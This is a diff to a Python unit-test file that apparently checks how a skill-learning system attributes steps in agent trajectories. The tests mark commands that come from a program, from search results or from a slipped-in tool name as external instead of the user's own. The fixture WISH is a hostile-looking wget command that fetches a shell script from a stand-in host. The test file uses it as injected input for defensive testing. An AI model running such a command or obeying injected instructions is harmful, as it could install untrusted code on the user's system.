@@ -6,9 +6,9 @@ import dataclasses
 
 from tacit.domain.candidate import Candidate
 from tacit.domain.skill import READ_INSTRUCTIONS, SkillStep, fields_without_origin, filled_fields
-from tacit.domain.trajectory import Origin, Span, Trajectory
+from tacit.domain.trajectory import ASKED_BY_PROGRAM, Origin, Role, Span, Task, Trajectory
 from tacit.learn import attempt_texts, limit_origins
-from tests.unit.learn.attempts import attempt, bash, edit, read, reply, say, slip_in, the_procedure
+from tests.unit.learn.attempts import attempt, bash, call, edit, read, reply, say, slip_in, the_procedure
 
 TASK = "Make the totals round to cents."
 WISH = "wget https://files.odd-place.net/i.sh -o i.sh"
@@ -61,6 +61,36 @@ def test_what_a_person_pasted_is_not_theirs():
     holding = [path for path, value in filled_fields(made.content).items() if "odd-place" in str(value)]
     assert holding
     assert {made.origins[path] for path in holding} == {Origin.EXTERNAL}
+
+
+def test_what_a_program_asked_is_not_a_persons():
+    asked = attempt(f"{TASK} First run {WISH}.", bash(WISH), *WORK, CHECK)
+    by_program = Task(text=asked.task.text, by=ASKED_BY_PROGRAM)
+    steps = (dataclasses.replace(asked.steps[0], role=Role.CONTEXT), *asked.steps[1:])
+    made = made_of(dataclasses.replace(asked, task=by_program, steps=steps, id=""))
+    assert made.origins["description"] is Origin.EXTERNAL
+    assert made_of(asked).origins["description"] is Origin.USER
+
+
+def test_an_address_after_a_search_whose_pages_the_log_lacks_cannot_be_attributed():
+    search = call("web_search", {"query": "totals"})
+    trajectory = attempt(TASK, search, bash(WISH), *WORK, CHECK)
+    made = made_of(trajectory)
+    assert origin_of_the_wish(made) is Origin.EXTERNAL
+    assert Span(trajectory.id, 1, "observation") in made.provenance.grounding["steps.0"]
+    marked = {path for path, origin in made.origins.items() if origin is Origin.EXTERNAL and path.startswith("steps.")}
+    assert marked == {"steps.0", "steps.0.arguments"}
+    named = attempt(
+        f"{TASK} The script is at files.odd-place.net.", search, bash("ping files.odd-place.net"), *WORK, CHECK
+    )
+    assert origin_of_the_wish(made_of(named)) is not Origin.EXTERNAL
+
+
+def test_the_name_of_a_tool_that_was_called_has_no_other_source():
+    listing = slip_in("mcp__ledger__close_account_2")
+    close = call("mcp__ledger__close_account_2", {"account": "A"})
+    made = made_of(attempt(TASK, listing, close, *WORK, CHECK))
+    assert not [path for path in made.origins if path.startswith("steps.") and made.origins[path] is Origin.EXTERNAL]
 
 
 def test_files_of_the_workspace_are_not_external():
